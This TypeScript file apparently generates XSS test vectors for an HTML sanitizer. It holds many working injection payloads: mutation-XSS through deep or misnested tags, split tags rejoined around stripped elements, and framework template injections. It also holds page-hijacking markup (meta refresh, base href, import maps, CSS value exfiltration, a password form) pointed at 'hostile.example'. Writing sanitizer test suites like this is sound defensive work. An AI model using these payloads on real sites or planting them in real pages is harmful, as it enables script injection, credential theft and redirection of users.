import { pairs, RUN, vectors } from './vector.ts';

const PICTURE = `<img src=x:y onerror=${RUN}>`;
const LATENT = `<style><a title="</style>${PICTURE}">`;

/** Parsers give up nesting at 512 elements: what is behind is moved up, into another context. */
const DEPTHS = [255, 256, 257, 505, 510, 511, 512, 513, 600];
const DEEP = [
  '<div>',
  '<b>',
  '<font color=a>',
  '<svg><desc>',
  '<math><mi>',
  '<table><tr><td>',
  '<form><div>',
];

/** Elements that a parser moves, ends or opens again; what is in them changes its place. */
const MISNESTED: readonly (readonly [string, string])[] = [
  ['<form>', '</form><form>'],
  ['<form><math><mtext>', '</form><form><mglyph>'],
  ['<math><mtext><table><mglyph>', '</table></mtext>'],
  ['<table>', '<tr><td></table>'],
  ['<table><caption>', '<tr></caption><td>'],
  ['<table><colgroup>', '<col><tr>'],
  ['<select><option>', '</select><select>'],
  ['<select><table>', '<tr><td></select>'],
  ['<a href=#a><table>', '<a href=#b><tr>'],
  ['<b><p>', '</b></p><i>'],
  ['<a href=#a><b>', '</a></b><p>'],
  ['<p><svg><p>', '</svg></p>'],
  ['<nobr><b><nobr>', '</b></nobr>'],
  ['<h1><a><h2>', '</a></h1>'],
  ['<ul><li><dl><dt>', '</ul><dd>'],
  ['<ruby><rt><rp>', '</ruby><rt>'],
  ['<button><button>', '</p></button>'],
  ['<object><applet>', '</object><marquee>'],
  ['<body><frameset>', '</frameset></html>'],
  ['<template><tr>', '</template><td>'],
  ['<svg><template>', '</template></svg>'],
  ['<math><template>', '</math><style>'],
  ['<svg></p>', '<svg></br>'],
  ['<table><svg><g>', '</table><g>'],
];
const BETWEEN = [
  PICTURE,
  LATENT,
  `<svg>${LATENT}`,
  `<noscript><a id="</noscript>${PICTURE}">`,
  '<script>RUN()</script>',
];

/** Elements that are taken out, and tags whose halves must not meet then. */
const TAKEN_OUT = [
  ...['<script></script>', '<style></style>', '<object></object>', '<!---->', '<iframe></iframe>'],
  ...[
    '<svg></svg>',
    '<x-y></x-y>',
    '<b hidden></b>',
    '<form></form>',
    '<template></template>',
    '\0',
  ],
];
const HALVES: readonly (readonly [string, string])[] = [
  ['<scr', `ipt>${RUN}</script>`],
  ['<im', `g src=x:y onerror=${RUN}>`],
  ['<', `img src=x:y onerror=${RUN}>`],
  ['&l', `t;img src=x:y onerror=${RUN}&gt;`],
  ['<a href="java', `script:${RUN}">甲</a>`],
  ['<img src=x:y one', `rror=${RUN}>`],
  ['{', `{constructor.constructor('${RUN}')()}}`],
  ['<', `!--><svg onload=${RUN}>`],
];

/** What templates of other programs, and of the press's own dialects, would evaluate. */
const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `{{'a'.constructor.prototype.charAt=[].join;$eval('${RUN}')}}`,
  `<b v-html="'<img src=x:y onerror=${RUN}>'" :is="'script'">甲</b>`,
  `<div ng-app ng-init="${RUN}" x-data x-init="${RUN}" hx-on:load="${RUN}">甲</div>`,
  `<b @click="${RUN}" (click)="${RUN}" [innerHTML]="a">甲</b>`,
  `<%= ${RUN} %><?php ${RUN} ?>\${${RUN}}#{${RUN}}`,
  `<template><script>${RUN}</script></template>`,
  `<div><template shadowrootmode=open><img src=x:y onerror=${RUN}></template></div>`,
  `<div><template shadowroot=open><script>${RUN}</script></template></div>`,
  `<template><template></template><style></template><img src=x:y onerror=${RUN}></style>`,
  `<button is="x-y" part="a" slot="b" exportparts="c">甲</button>`,
];

/** Elements and attributes that change the page, leave it, or take its reader's hand. */
const PAGE = [
  '<meta http-equiv="refresh" content="0; url=https://hostile.example/">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<meta http-equiv="set-cookie" content="a=b">',
  '<meta name="referrer" content="unsafe-url">',
  '<base target="_top" href="https://hostile.example/">',
  '<link rel="preconnect" href="https://hostile.example/">',
  '<link rel="dns-prefetch" href="//hostile.example/">',
  '<link rel="manifest" href="https://hostile.example/">',
  `<script type="speculationrules">{"prerender":[{"urls":["https://hostile.example/"]}]}</script>`,
  '<script type="importmap">{"imports":{"react":"https://hostile.example/"}}</script>',
  `<script type="module">${RUN}</script>`,
  `<script nomodule>${RUN}</script>`,
  `<script src="data:,${RUN}"></script>`,
  `<script\t>${RUN}</script\n>`,
  `<SCRIPT/x>${RUN}</SCRIPT>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x:y onerror=parent.${RUN}&gt;"></iframe>`,
  '<iframe src="https://hostile.example/" allow="camera"></iframe>',
  '<form action="https://hostile.example/"><input name=password autofocus></form>',
  `<input autofocus onfocus=${RUN}><select autofocus onfocus=${RUN}><textarea autofocus onfocus=${RUN}>`,
  '<dialog open>甲</dialog><div popover=manual id=p>甲</div><button popovertarget=p>乙</button>',
  '<p contenteditable autofocus accesskey=a draggable=true tabindex=1 inert nonce=a is=b>甲</p>',
  '<p style="position:fixed;inset:0;z-index:9999;background:red">甲</p>',
  '<p style="background:url(https://hostile.example/a.png)">甲</p>',
  '<style>body{display:none}input[value^=a]{background:url(https://hostile.example/)}</style>',
  '<a href="#root" class="masthead paper article-pane sheet">甲</a>',
  `<marquee onstart=${RUN}>甲</marquee>`,
  `<body onload=${RUN}><body onpageshow=${RUN}>`,
  `<frameset onload=${RUN}>`,
  `<keygen autofocus onfocus=${RUN}><isindex type=image src=x:y onerror=${RUN}>`,
  `<object data="data:text/html,<script>parent.${RUN}</script>"></object>`,
  `<embed src="data:text/html,<script>parent.${RUN}</script>">`,
  `<video onloadstart=${RUN}><source onerror=${RUN} src=x:y></video>`,
  `<audio src=x:y onerror=${RUN}></audio><picture><source srcset=x:y><img onerror=${RUN} src=x:y></picture>`,
  `<details ontoggle=${RUN} open>甲</details>`,
  `<a href="https://hostile.example/" target="_top" rel="opener" download ping="https://hostile.example/">甲</a>`,
  `<a href="https://hostile.example/" attributionsrc referrerpolicy="unsafe-url">甲</a>`,
  '<img src="https://hostile.example/a.png" referrerpolicy="unsafe-url" attributionsrc crossorigin="use-credentials">',
  '<img src="https://hostile.example/a.gif" width=1 height=1>',
  `<plaintext>${PICTURE}`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\u00bcscript\u00be${RUN}\u00bc/script\u00be`,
  `<scr\0ipt>${RUN}</scr\0ipt>`,
  `<\u0000img src=x:y onerror=${RUN}>`,
  `<ımg src=x:y onerror=${RUN}><ſcript>${RUN}</ſcript>`,
  `<img src=x:y onerror=${RUN} ${'a '.repeat(500)}>`,
  `${'<'.repeat(500)}img src=x:y onerror=${RUN}>`,
];

/** Trees that parsers build otherwise than they are written, and what changes the page. */
export const STRUCTURE_VECTORS = [
  ...vectors(
    'depth',
    pairs(DEEP, DEPTHS).map(([open, depth]) => [
      `${depth} ${open}`,
      open.repeat(depth) + LATENT + PICTURE,
    ]),
  ),
  ...vectors(
    'misnested',
    pairs(MISNESTED, BETWEEN).flatMap(([[open, close], between]) => [
      [`${open}${between}${close}`, open + between + close],
      [`${open}${close}${between}`, open + close + between],
    ]),
  ),
  ...vectors(
    'halves',
    pairs(HALVES, TAKEN_OUT).map(([[first, second], middle]) => [
      `${first}${JSON.stringify(middle)}${second}`,
      first + middle + second,
    ]),
  ),
  ...vectors(
    'template',
    TEMPLATES.map((html) => [html, html]),
  ),
  ...vectors(
    'page',
    PAGE.map((html) => [html.slice(0, 80), html]),
  ),
];
